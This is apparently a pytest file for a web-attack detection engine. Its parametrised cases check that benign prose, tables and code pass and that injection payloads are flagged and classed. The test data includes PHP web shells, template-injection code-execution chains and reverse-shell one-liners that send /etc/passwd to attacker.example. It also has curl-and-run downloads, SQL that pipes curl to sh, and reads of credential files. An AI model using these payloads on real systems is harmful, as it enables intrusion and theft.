"""The detection engine: rule regressions, custom patterns, limits, monitor and status."""

from __future__ import annotations

import json
import re
import time
from pathlib import Path
from typing import Any

import pytest
import re2

from guard import SecurityConfig
from guard.engine import confirm, detector
from guard.engine.detector import DetectionEngine
from guard.engine.matcher import HYPERSCAN_AVAILABLE, MatchSpec
from guard.engine.normalize import named_views
from guard.engine.semantic import SemanticAnalyzer
from guard.errors import PatternError

CASES = json.loads((Path(__file__).parent / "cases" / "regression.json").read_text("utf-8"))


@pytest.fixture(scope="module")
def engine() -> DetectionEngine:
    return DetectionEngine()


@pytest.fixture(scope="module")
def re2_engine() -> DetectionEngine:
    return DetectionEngine(engine="re2")


def _verdict(result: dict[str, Any]) -> str | None:
    return result["attack_class"] if result["is_threat"] else None


@pytest.mark.parametrize("case", CASES, ids=lambda c: c["input"][:40])
def test_regression_case(engine: DetectionEngine, case: dict[str, Any]) -> None:
    assert _verdict(engine.detect(case["input"])) == case["class"]


@pytest.mark.parametrize("case", CASES, ids=lambda c: c["input"][:40])
def test_re2_fallback_agrees(re2_engine: DetectionEngine, case: dict[str, Any]) -> None:
    assert re2_engine.engine_name == "re2"
    assert _verdict(re2_engine.detect(case["input"])) == case["class"]


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("SELECT fooid, fooname FROM foo", False),
        ("DELETE FROM sessions WHERE expires < now();", False),
        ("In psql, UPDATE accounts SET active = 1 turns them all back on.", False),
        ("SELECT name, price FROM systems WHERE stock > 0;", False),
        ("1 DROP TABLE users", True),
        ("name DELETE FROM users", True),
        ("x] DROP TABLE users; SELECT [a", True),
        ("select grantee from syscat.dbauth;", True),
        ("select * from pg_group;", True),
        ("DROP TABLE users--", True),
        ("1; DROP TABLE users", True),
        ("1 AND (SELECT password FROM users LIMIT 1)", True),
        ("exec master..xp_cmdshell 'dir'", True),
        ("/usr/share/dict/words", False),
        ("/usr/share/tomcat8/conf/tomcat-users.xml", True),
        ("/usr/share/jenkins/secrets/initialAdminPassword", True),
        ("/usr/share/doc/app/.env", True),
        ("/usr/lib/cron/log", True),
    ],
)
def test_statements_and_system_paths_by_the_rules_alone(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """Where the model does not read (headers), the rules alone decide: a whole SQL statement
    counts where something can break into the query, or where it reads the system catalog; a
    bare path counts unless it is into /usr/share's read-only data."""
    assert engine.detect(value, semantic=False)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("These tools all edit the group files: /etc/passwd, /etc/group and /etc/shadow.", False),
        ("Use a file other than /etc/passwd.", False),
        ("Edit the file /etc/hosts, then restart the resolver", False),
        ("/etc/passwd", True),
        ("file: /etc/passwd", True),
        ("path=/tmp/a, /etc/passwd", True),
        ("cat /etc/passwd", True),
        ("x=1&file=/etc/passwd", True),
        ("read: /etc/shadow", True),
        ("; cat /etc/passwd | nc attacker.example 4444 and then some ordinary words follow", True),
    ],
)
def test_a_sensitive_file_named_in_a_sentence_is_a_mention(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """A well-known file listed in a sentence, after a word or a word's colon or comma, is
    mentioned: neither the rules nor the model's sensitive-file feature count it. The same path
    at the start, after a parameter, or in a short command is a target."""
    assert engine.detect(value)["is_threat"] is flagged
    assert engine.detect(value, semantic=False)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("| Name | Type | Default |", False),
        ("| id | name | email |", False),
        # Without a pipe at each end a row could be a pipeline's middle ("127.0.0.1 | x | env").
        ("Parameter | Type | Description", True),
        ("127.0.0.1 | x | env", True),
        ("127.0.0.1 | `curl attacker.example/s.sh -o /tmp/s.sh; bash /tmp/s.sh` | x", True),
        ("| a | `curl x/s.sh -o /tmp/s; sh /tmp/s` | b |", True),
        ("| File | Size | Time |", False),
        ("| Name | Host name | Port |", False),
        ("page=2&id=15&sort=asc", False),
        ("| { | id: {key}, | value: {task} | }", False),
        ("|id|", True),
        ("a|id|", True),
        ("||id||", True),
        ("| sleep 5 | x |", True),
        ("| ls -la | x | y |", True),
        ("| Name | Type | Default |; id", True),
        ("| id | type | host |\n|----|------|------|\n| 1 | web | web-01 |", False),
        ("## Fixes\n\n| Symptom | Fix |\n|---|---|\n| `find` is slow | run `sudo updatedb` |"
         "\n| Uploads > 10 MB fail | raise the limit |", False),
        ("| a | b |\n| c | d |\n; id", True),
        ("| a | b |\n|---|---|\n| x | y |\n| id; ls | z |", True),
    ],
)
def test_the_pipes_of_a_table_row_run_nothing(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """A table's cells (one row, or rows under a |---| rule), code spans in them included,
    may hold command words (Type, Host, File, id) as headings or values;
    the rules and the model's separator feature leave them. A command after a pipe with an
    argument, glued to the pipes, or after other shell syntax still counts."""
    assert engine.detect(value)["is_threat"] is flagged
    if not flagged:
        assert not engine.detect(value, semantic=False)["is_threat"]


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("Django lets you write custom `file storage systems`_ that store files elsewhere.", False),
        ("Copy this file, :ref:`set up a new virtualenv <install-create-env>`, then install it.",
         False),
        ("Run ``du -sh * | sort -h`` to see which directories are the biggest", False),
        ("`id`_", True),
        ("x;`id`_", True),
        ("echo `id`", True),
    ],
)
def test_restructuredtext_roles_links_and_literals_are_code_spans(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """reStructuredText roles, links and double-backtick literals quote text the way Markdown
    code spans do; set in a sentence they run nothing. A backtick substitution outside prose
    still counts."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("* Put exactly one space between ``{%``, tag contents, and ``%}``.", False),
        ("Jinja uses {{ and }} for expressions and {% and %} for statements.", False),
        ("Jinja uses `{{ ... }}` for expressions and `{% ... %}` for statements.", False),
        ("The ``{%`` and ``{{`` tags are part of the template language.", False),
        ("{{ ... }}", True),
        ("The ``{%`` tag is here: {{ config.items() }}", True),
        ("Show the ``{%`` delimiters {% debug %}", True),
    ],
)
def test_documentation_naming_template_delimiters(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """Prose that names the delimiters of a template language, alone in a code span or around
    nothing but ``...`` or a conjunction, quotes no tag; a tag that reaches code still counts."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ('Traceback (most recent call last):\n  File "app.py", line 42, in <module>\n    main()',
         False),
        ("Host bastion\n  HostName 203.0.113.10\n  User deploy", False),
        ("&nbsp; &amp; &copy; &reg; are common entities.", False),
        ("x\nfile /etc/shadow", True),
        ("&copy /b a+b c", True),
        ("x&TYPE C:\\boot.ini", True),
        ("x\nhostname -f", True),
        ("127.0.0.1&copy; nc attacker.example 4444 -e sh", True),
        ("127.0.0.1&copy; cat /etc/shadow", True),
        ("127.0.0.1;Id;printenv", True),
        ("127.0.0.1 & Ping -n 30 localhost", True),
        ("127.0.0.1 & Nslookup %USERNAME%.attacker.example", True),
        ("&copy; 2024 Acme Inc. All rights reserved.", False),
    ],
)
def test_mixed_case_words_and_entities_are_not_commands(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """A word in mixed case on an indented line (a traceback's ``File``, an SSH config's
    ``HostName``) is not a Unix command, nor is an HTML entity after ``&`` with no command after
    it; after ``&``, ``;`` or ``|`` any case counts (cmd reads any), and a let-off first match
    hides nothing after it."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("TypeError: x is null\n    at /srv/app/routes/orders.js:57:23\n    at Layer.handle "
         "[as handle_request] (/srv/app/node_modules/express/lib/router/layer.js:95:5)", False),
        ("java.lang.NullPointerException\n\tat com.example.Foo.bar(Foo.java:42)", False),
        ('x; at "now" <<< id', True),
        ("x\nat -f /tmp/job now", True),
        ("x;at /delete /yes", True),
        ("x & at \\\\host 12:00 cmd", True),
        ("a;at $T", True),
        # A frame with the same text earlier does not clear a real "at" later.
        ("x;at /srv;at /delete /yes", True),
    ],
)
def test_a_stack_frame_schedules_nothing(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """``at`` followed by a path or a name that is no time (a stack frame) is refused by Unix
    ``at`` and by cmd's; a time, an option, a switch, a quote or a variable after it stands."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("\\nnslookup attacker.example", True),
        ("\\ncurl http://attacker.example/x", True),
        ("x|ping attacker.example", True),
        ("%0Dnslookup attacker.example", True),
        ("Contact us; more info at help.example.com", False),
        ("We moved servers; host example.com now points to the new IP", False),
    ],
)
def test_a_command_given_a_url_or_host_name(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """A command word after a separator whose argument is a URL or a host name is a command
    (``curl http://…``, ``nslookup attacker.example``); a sentence that happens to hold the
    same shape after a semicolon reads as prose."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    "value",
    [
        "Hello team, the total is {{ 7*191 }} units as discussed",
        "the order total is ${7*7} as agreed",
        "Your code is #{1337*1} thanks",
        "<%= 7*7 %> is what the greeting shows",
    ],
)
def test_a_template_arithmetic_probe_in_a_sentence(engine: DetectionEngine, value: str) -> None:
    """A constant product in template delimiters is the canonical probe; the sentence padded
    around it does not discount it."""
    result = engine.detect(value)
    assert result["is_threat"] and result["attack_class"] == "ssti"


@pytest.mark.parametrize(
    ("value", "named"),
    [
        ("<?php system($_GET['cmd']); ?>", "file_upload"),
        ("<?=`$_GET[0]`?>", "file_upload"),
        ("GIF89a<?php passthru($_REQUEST['c']); ?>", "file_upload"),
        ('<% Runtime.getRuntime().exec(request.getParameter("cmd")); %>', "file_upload"),
        ('<%@ Page Language="C#" %><% Process.Start("cmd.exe", "/c " + Request["c"]); %>',
         "file_upload"),
        ('<% eval request("cmd") %>', "file_upload"),
        ("<?php phpinfo(); ?>", "file_upload"),
        # The multipart part that names a server script is the upload, wherever it points.
        ('Content-Disposition: form-data; name="file"; filename="../../shell.php"',
         "file_upload"),
        ('image/jpeg\r\nContent-Disposition: form-data; name="file"; filename="shell.php"',
         "file_upload"),
        # A script carrying its own command is the command's injection...
        ('<?php system("sleep 10");?>', "cmdi"),
        # ...and a web shell quoted as an argument is written by the command around it.
        ("; echo \"<?php system($_GET['cmd']); ?>\" > cmd.php", "cmdi"),
        ("' UNION SELECT '<?php system($_GET[c]); ?>',2 INTO OUTFILE '/var/www/html/s.php'-- -",
         "sqli"),
        ("<%= system('cat /etc/passwd') %>", "ssti"),
    ],
)
def test_a_web_shell_is_named_an_upload(engine: DetectionEngine, value: str, named: str) -> None:
    """A server script that runs what later requests send is a planted file, named a malicious
    upload over the command it runs, and so is a multipart file name of a server script; a
    script with the command written in it, or a script that is the quoted argument of another
    command, is named after that command."""
    result = engine.detect(value)
    assert result["is_threat"] and result["attack_class"] == named


@pytest.mark.parametrize(
    ("value", "named"),
    [
        ("/etc/pureftpd.pdb%00", "path_traversal"),
        ("/Program Files\\Apache Group\\Apache2\\conf\\httpd.conf%00", "path_traversal"),
        ("../../../etc/hosts%00", "path_traversal"),
        ("cmd.cfm%00", "file_upload"),
        ("shell.php%00.jpg", "file_upload"),
        ("uploads/shell.asp%00.gif", "file_upload"),
    ],
)
def test_a_null_byte_after_a_path_is_an_inclusion(
    engine: DetectionEngine, value: str, named: str
) -> None:
    """A null byte ending a path cuts off the suffix the application appends to a file it opens
    (file inclusion); one ending a bare file name, or followed by the allowed extension, hides a
    script's extension from an upload filter."""
    result = engine.detect(value)
    assert result["is_threat"] and result["attack_class"] == named


@pytest.mark.parametrize(
    ("value", "named"),
    [
        ("{system('id')}", "ssti"),
        ("{if system('id')}{/if}", "ssti"),
        ("@php system('id'); @endphp", "ssti"),
        ("#{`id`}", "ssti"),
        ("{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,'x',self::clearConfig())}", "ssti"),
        # PHP's complex string syntax is the command injection's own delivery.
        ("{${phpinfo()}}", "cmdi"),
        ('${@print("RCEVulnerable")}', "cmdi"),
        # CSS's universal selector is not Thymeleaf's *{…}; markup inside <% %> is no code.
        ("<style>*{x:expression(alert(1))}</style>", "xss"),
        ('<% foo><x foo="%><script>alert(91)</script>">', "xss"),
        ("*{T(java.lang.Runtime).getRuntime().exec('id')}", "ssti"),
        # A template calling the browser's dialogs or cookie runs in the browser.
        ("{{$on.constructor('alert(1)')()}}", "xss"),
        ("${alert(document.cookie)}", "xss"),
        ("{{ '<script>alert(3)</script>' | safe }}", "ssti"),
        ("{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "ssti"),
    ],
)
def test_template_tags_and_their_look_alikes(
    engine: DetectionEngine, value: str, named: str
) -> None:
    """A template engine's own call syntax names template injection; PHP string interpolation,
    a CSS rule and markup between <% and %> are named after what they are."""
    result = engine.detect(value)
    assert result["is_threat"] and result["attack_class"] == named


@pytest.mark.parametrize(
    ("value", "named"),
    [
        ("'; COPY (SELECT '') TO PROGRAM 'curl http://attacker.example/x|sh'--", "sqli"),
        ("' or count(/*)=1 or 'a'='b", "xml"),
        ("admin' and substring(//user[1]/password,1,1)='a", "xml"),
        ("' AND HTTPURITYPE('http://attacker.example/x').GETCLOB() IS NOT NULL--", "sqli"),
        ("';sleep(5000);", "nosql"),
        ('{"$where": "sleep(5000)"}', "nosql"),
        ("' AND SLEEP(5)-- -", "sqli"),
    ],
)
def test_the_language_that_carries_the_payload_names_it(
    engine: DetectionEngine, value: str, named: str
) -> None:
    """SQL running a program is SQL injection, an XPath function over the document's paths is
    XPath (XML) injection, and a sleep counted in milliseconds is JavaScript in a NoSQL query."""
    result = engine.detect(value)
    assert result["is_threat"] and result["attack_class"] == named


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("--checkpoint=1 --checkpoint-action=exec=sh shell.sh", True),
        ("-o /var/www/html/s.php http://attacker.example/s.txt", True),
        ("attacker@example.com -OQueueDirectory=/tmp -X/var/www/html/shell.php", True),
        ("--use-compress-program='sh -c id'", True),
        ("-o, --output <file>  write output to <file> instead of stdout", False),
        ("add -o ./reports/summary.csv to keep the report", False),
    ],
)
def test_options_injected_into_a_command(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """Options that make a command run a program or write a server script at an absolute path
    are command injection; an option's documentation and an ordinary output file are not."""
    result = engine.detect(value)
    assert result["is_threat"] is flagged
    assert not flagged or result["attack_class"] == "cmdi"


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ('puts "Hello, #{user.first_name}!"', False),
        ('<p th:text="#{home.welcome}">Welcome</p>', False),
        ("#{7*7}", True),
        ("#{ENV['SECRET_KEY_BASE']}", True),
        ("#{''.getClass().forName('java.lang.Runtime')}", True),
    ],
)
def test_hash_brace_interpolation_of_a_value(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """#{…} that names a value (Ruby's string interpolation, a Thymeleaf message key) is data;
    one that computes, calls, subscripts or quotes is a probe."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("<?php echo htmlspecialchars($user['name'], ENT_QUOTES, 'UTF-8'); ?>", False),
        ("<?php foreach ($items as $item): ?><li><?= e($item->name) ?></li><?php endforeach; ?>",
         False),
        ("$name = $_GET['name'] ?? 'guest';", False),
        ("<?php phpinfo(); ?>", True),
        ("<?php $f='sys'.'tem';$f($_POST['x']); ?>", True),
        ("<?php include $_GET['page']; ?>", True),
        ("<?php include 'http://attacker.example/x.txt'; ?>", True),
        ("<?php echo `id`; ?>", True),
        ("<?php echo file_get_contents('/etc/passwd'); ?>", True),
        ("<?= $_GET[0] ?>", True),
    ],
)
def test_php_that_only_renders_its_page(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """A PHP block that escapes and echoes its page's data, or code reading a request field,
    is a page's own source; one that runs, evaluates, reads files, calls a name held in a
    variable or includes from a variable or a URL is a malicious upload."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
         '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-transitional.dtd">', False),
        ('<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Transitional//EN" '
         '"http://attacker.example/x.dtd">', True),
        ('<!DOCTYPE html PUBLIC "-//W3C//DTD HTML 4.01//EN" "http://www.w3.org/TR/html4/strict.dtd"'
         ' [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>&x;</p>', True),
        ("<?php include 'partials/header.php'; ?>", False),
        ("{{ user.first_name | capitalize }}", False),
        ("{{ 'now' | date: \"%Y-%m-%d\" }}", False),
        ("{{ request|attr('application') }}", True),
        ("{{ 7|add:7 }}", True),
        ("{{ ''|attr('__class__') }}", True),
        ("{{ config.items()|list }}", True),
    ],
)
def test_grammar_that_clears_a_construct_also_clears_the_model(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """A W3C page declaration, PHP that only renders its page and a template tag that formats a
    value through a filter are inert by their grammar; the model, which only sees their shape,
    does not flag them on its own. An entity, a foreign DTD, an object that reaches code, a
    computing filter or a call still count."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("Here is the intro paragraph\r\n\r\n<b>Bold</b> text", False),
        ("Intro paragraph\r\n\r\n<b>Bold</b> text", True),
        ("<p>Hi</p>\n\n<p>Bye</p>", False),
        ("## Install\n\n<details>\n<summary>Click</summary>\n</details>", False),
        ("en\r\n\r\n<h1>Hacked</h1>", True),
        ("x\\r\\n\\r\\n<h1>Hacked</h1>", True),
        ("Some words\r\n\r\n<iframe src=//attacker.example>", True),
        ("Welcome\r\nContent-Length: 0\r\n\r\n<html>owned</html>", True),
        ("a b\r\n\r\nHTTP/1.1 200 OK", True),
    ],
)
def test_a_paragraph_break_before_markup(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """A blank line before markup splits a response when what precedes it can be a header's
    value (a few words, header lines, an encoded break) or the body is active or a status
    line; a paragraph, a heading or an element, a paragraph break and inert markup are a text
    box's content."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    "value",
    [
        'cursor.execute("SELECT * FROM users WHERE email = %s", (email,))',
        "pd.read_sql(\"SELECT * FROM orders WHERE created_at >= %(start)s\", con=engine)",
    ],
)
def test_a_parameterised_query_in_code(engine: DetectionEngine, value: str) -> None:
    """A query passed with its parameters apart is code that defends against injection; with
    its quotes removed (the shell view) it would read as a sub-query."""
    assert not engine.detect(value)["is_threat"]


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ("const fs = require('fs');\nconst data = fs.readFileSync('./input.txt', 'utf8');", False),
        ("include('../../../../etc/passwd');", True),
        ("require('http://attacker.example/shell.txt');", True),
        ("file_get_contents('/etc/passwd');", True),
        ("system('id');", True),
        ("passthru($_GET['c']);", True),
    ],
)
def test_php_functions_called_bare(engine: DetectionEngine, value: str, flagged: bool) -> None:
    """A PHP file function with a plain literal names the program's own file; a climb, a URL,
    an absolute path, a command or request input is code execution."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    "value",
    [
        "Dear customer ${T(java.lang.Runtime).getRuntime().exec('curl http://attacker.example/x')}"
        ", thanks for your order",
        "Bio: I love hiking {{['cat /etc/passwd']|filter('system')}} and coffee",
    ],
)
def test_a_payload_near_the_end_of_a_sentence(engine: DetectionEngine, value: str) -> None:
    """The closer reading of payloads in prose reaches a payload whose neighbourhood runs to
    the end of the text."""
    result = engine.detect(value)
    assert result["is_threat"] and result["attack_class"] == "ssti"


@pytest.mark.parametrize(
    ("value", "named"),
    [
        ("admin\n2024-01-01 12:00:00 INFO User admin logged in successfully", "crlf"),
        ('Mozilla/5.0\r\n127.0.0.1 - admin [01/Jan/2024:00:00:00] "GET /admin HTTP/1.1" 200',
         "crlf"),
        ('{"email":"alice@example.com\\r\\nCc: bob@attacker.example","msg":"hi"}', "crlf"),
        ("foo\r\nFLUSHALL\r\n", "nosql"),
        ('{"script_fields":{"p":{"lang":"groovy","script":"\'id\'.execute().text"}}}', "nosql"),
        ("nice item'; while(true){}; var z='", "nosql"),
        ("')] | //user/password | a[('", "xml"),
        ("push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://x.example/a.jpg\"|id\")'",
         "file_upload"),
    ],
)
def test_protocol_and_file_formats_that_carry_a_payload(
    engine: DetectionEngine, value: str, named: str
) -> None:
    """A forged log line, a mail header after an address, a Redis command on a line of its
    own, a search script that runs a program, JavaScript spliced into a query string, an XPath
    union and an ImageMagick drawing are caught and named after what carries them."""
    result = engine.detect(value)
    assert result["is_threat"] and result["attack_class"] == named


@pytest.mark.parametrize(
    "value",
    [
        "Logs:\n2024-01-01 12:00:00 ERROR Connection refused",
        "Here is what I see\n2024-01-01 12:00:00 INFO started\n2024-01-01 12:00:01 INFO ready",
        "Contact: alice@example.com",
    ],
)
def test_pasted_logs_and_addresses(engine: DetectionEngine, value: str) -> None:
    assert not engine.detect(value)["is_threat"]


@pytest.mark.parametrize(
    ("value", "named"),
    [
        # PHP that hides its call from a list of dangerous functions.
        ("<?php system/**/(filter_input(INPUT_GET,'c')); ?>", "file_upload"),
        ("<?php 'system'(filter_input(INPUT_GET,'c')); ?>", "file_upload"),
        ("<?php ('sys'.'tem')('id'); ?>", None),
        ("<?php $f=filter_input(INPUT_GET,'f'); $f /**/ (filter_input(INPUT_GET,'c')); ?>", None),
        ("<?php include '/tmp/sess_abc'; ?>", None),
        ("<?php include 'uploads/avatar.jpg'; ?>", None),
        ("<?php highlight_string(var_export(get_defined_constants(true)['user'], true)); ?>",
         None),
        # Ruby and Pug interpolation that calls without parentheses or reaches secrets.
        ("Hello #{Kernel.send :system, :id.to_s}, welcome back to your dashboard", "ssti"),
        ("Hello #{process.env}, welcome back to your dashboard", "ssti"),
        # A filter handed a path, or a tag naming a secret.
        ("{{ 'C:/Users/Administrator/.ssh/id_rsa'|file_excerpt(1,30) }}", "ssti"),
        ("{{ g|pprint }}", "ssti"),
        ("{{ current_user.api_token|e }}", "ssti"),
        # A response split after a short head, or before markup that loads or submits.
        ('x y\r\n\r\n<img src="https://evil.example/log?d=', "crlf"),
        ("report 2024.pdf\r\n\r\n<h1>Your session expired</h1>", "crlf"),
        ("x y\r\n\r\n<button formaction=https://evil.example>Submit</button>", "crlf"),
        ("uploads/avatar.jpg%00", "path_traversal"),
        ("<?= system/**/(filter_input(INPUT_GET,'c')) ?>", "file_upload"),
        ("/redirect?to=home page\r\n\r\n<p>foo", "crlf"),
        ("Hello #{session.id}, welcome back to your dashboard", "ssti"),
        ("{{ get_env.DATABASE_URL|e }}", "ssti"),
        ('<!DOCTYPE x PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" '
         '"http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">', "xml"),
        # Names: a SQL comment is no XPath node test; a decoy browser call yields to a proven
        # server-side evaluation.
        ("admin' or sleep(/**/5)-- -", "sqli"),
        ("{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}{{alert(1)}}",
         "ssti"),
        ("${7*7}${alert(1)}", "ssti"),
    ],
)
def test_review_of_the_grammar_exemptions(
    engine: DetectionEngine, value: str, named: str | None
) -> None:
    """Payloads an attacker review (session 12) built against the new exemptions and names:
    each is caught, and named as shown where the name is not a judgement call (None)."""
    result = engine.detect(value)
    assert result["is_threat"]
    assert named is None or result["attack_class"] == named


@pytest.mark.parametrize(
    "value",
    [
        # header_injected: fields a server or a mail transport acts on, a boundary the head
        # never declared, a blank line that ends an injected head, credentials under a request.
        "a: b\r\nX-Accel-Redirect: /internal/admin/",
        "x: y\r\nX-Sendfile: /app/.env",
        "HTTP/1.1 200 OK\r\nX-Accel-Redirect: /private/invoices/",
        "--a\r\nContent-Type: text/html; charset=utf-7",
        '--x\r\nContent-Disposition: attachment; filename="invoice.bat"',
        "Re: invoice\r\nBcc: victim1@example.com, victim2@example.com",
        "Re: hi\r\nReply-To: attacker@evil.example\r\nX-A: 1",
        "a: b\r\nX-Remote-User: admin",
        "a: b\r\nX-Middleware-Subrequest: middleware:middleware:middleware",
        "a: b\r\nConnection: close, X-Forwarded-For, Authorization",
        "GET / HTTP/1.1\r\nCookie: role=admin; session=attacker",
        "a: b\r\nCache-Control: public, max-age=31536000",
        "a: b\r\nContent-Type: */*",
        "a: b\r\nX-A: 1\r\n\r\n",
        "a: b\r\nX-A: 1\r\n\r\nSession expired, re-enter your password at https://evil.example/",
        "x: y&#13;&#10;X-Accel-Redirect: /internal/",
        # The shell view: a quoted stretch with blanks that eval or ssh reads again.
        "127.0.0.1;eval c'at /et'c/passwd",
        "127.0.0.1;eval n'c -e /bin/s'h 10.0.0.1 4444",
        "127.0.0.1 && eval wh'oami && unam'e",
        # Template helpers: a condition or a method called without parentheses, a label's
        # word used again as a name.
        "<%= t 'x' if Kernel.public_send 'spawn', 'id' %>",
        "<%= t 'x' if Open3.capture2 'id' %>",
        "<%= t 'hi' %> <%= t 'nope', ENV: 0, default: ENV.to_h.to_s %>",
        # fetch_runs: something chained before the housekeeping, a staged program, set-id.
        "x/y ; /tmp/.x > /dev/null 2>&1",
        "id > /dev/null; /tmp/.b 2>&1",
        "chmod 4755 /bin/bash",
        "*/5 * * * * /tmp/.update.sh > /dev/null 2>&1",
        # Bare commands that still count: a secret's file, a counted ping of the host itself.
        "cat /run/secrets/db_password",
        "ping -c 10 127.1",
        "ping -c 10 -4 127.0.0.1",
        # path_goes_on: a second path or an option is an argument, not text.
        "/proc/1/environ /proc/1/cmdline",
        "/home/deploy/.ssh/id_rsa -",
    ],
)
def test_review_of_session_13_exemptions(engine: DetectionEngine, value: str) -> None:
    """Payloads an attacker review built against session 13's exemptions (pasted messages,
    written-out command lines, paths followed by text, the narrower quote trigger, template
    helpers): each is caught."""
    assert engine.detect(value)["is_threat"]


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        # Messages pasted whole, whose fields set nothing an injection gains by.
        ("GET /api/v1/orders?page=2 HTTP/1.1\nHost: api.example.com\nAccept: application/json\n"
         "User-Agent: curl/8.4.0", False),
        ("GET /api/v1/orders?page=2 HTTP/1.1\nHost: api.example.com\nAuthorization: Bearer x",
         True),
        ("HTTP/2 429\nretry-after: 30\nx-ratelimit-limit: 100", False),
        ("Cache-Control: no-cache, no-store\nPragma: no-cache\nExpires: 0", False),
        ("POST /upload HTTP/1.1\r\nHost: files.example.com\r\nContent-Type: multipart/form-data;"
         " boundary=----WebKitFormBoundary7MA\r\n\r\n------WebKitFormBoundary7MA\r\n"
         "Content-Disposition: form-data; name=\"notes\"\r\n\r\nVacation photos\r\n"
         "------WebKitFormBoundary7MA--", False),
        # The text of a parameter, or an empty line, before the break: an injection.
        ("en\r\nX-Injected: 1", True),
        ("\r\nX-Injected: 1", True),
        # A field an injection gains by, whatever opens the value.
        ("X-Foo: bar\r\nSet-Cookie: sid=evil", True),
        ("X-Foo: bar\r\nLocation: //evil.example", True),
        ("lang: en\nRefresh: 0; url=https://evil.example", True),
        ("a: b\r\nX-Forwarded-For: 127.0.0.1", True),
        ("X: y\r\nTransfer-Encoding: chunked", True),
        ("X: y\r\nHost: evil.example", True),
        ("HTTP/1.1 200 OK\r\nContent-Type: text/html", True),
        ("GET / HTTP/1.1\r\nUpgrade: h2c\r\nConnection: Upgrade", True),
        # A second request or status line splits; a break written any other way is not pasted.
        ("GET / HTTP/1.1\r\nHost: a\r\n\r\nGET /admin HTTP/1.1\r\nHost: internal", True),
        ("HTTP/1.1 302 Found%0d%0aX-A:%201", True),
        ("X-A: 1\u560a\u560dX-B: 2", True),
    ],
)
def test_a_message_pasted_whole_sets_nothing(
    engine: DetectionEngine, value: str, flagged: bool
) -> None:
    """``header_injected``: a header after a line break stands unless the value is a message
    opening with itself whose every field is one an injection gains nothing by; the model's
    reading of the same message as response splitting is dropped with it."""
    assert engine.detect(value)["is_threat"] is flagged


@pytest.mark.parametrize(
    ("value", "flagged"),
    [
        ('<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ" '
         'title="YouTube video player" allowfullscreen></iframe>', False),
        ('<iframe src="https://player.vimeo.com/video/76979871?h=8272103f6e"></iframe>', False),
        ('<iframe src="https://www.google.com/maps/embed?pb=!1m18" width=600></iframe>', False),
        ('<iframe src="https://evil.example/login"></iframe>', True),
        ('<iframe src="https://www.google.com/url?q=https://evil.example"></iframe>', True),
        ('<iframe src="https://www.youtube.com.evil.example/embed/x"></iframe>', True),
        ('<iframe src="https://www.youtube.com/embed/x" onload="alert(1)"></iframe>', True),
        ("<iframe src=https://www.youtube.com/embed/x></iframe><iframe src=//evil.example>", True),
        ('<iframe src="javascript:alert(1)"></iframe>', True),
        # A second src, a src inside another attribute, a redirect, a host serving its users'
        # pages, a device permission, an overlay, and markup beside the frame (second review).
        ('<iframe src="//evil.example/login" src="https://www.youtube.com/embed/x">', True),
        ("<iframe title='src=\"https://www.youtube.com/embed/x\"' src=\"https://evil.example/l\">",
         True),
        ('<iframe src="https://www.google.com/amp/s/evil.example/embed"></iframe>', True),
        ('<iframe src="https://codepen.io/x/embed/abc"></iframe>', True),
        ('<iframe src="https://www.youtube.com/embed/x" allow="camera; microphone">', True),
        ('<iframe src="https://www.youtube.com/embed/x" style="position:fixed;z-index:9"></iframe>',
         True),
        ('<iframe src="https://www.youtube.com/embed/x"></iframe><form action=//evil.example>'
         '<input name=p></form>', True),
    ],
)
def test_a_providers_embed_code(engine: DetectionEngine, value: str, flagged: bool) -> None:
    """A frame of a provider's player or embed page (the embed code a site's editor pastes)
    shows that page cross-origin; a frame of any other page, of a provider's other pages, of a
    look-alike host, or with a handler or a script URL is injected markup."""
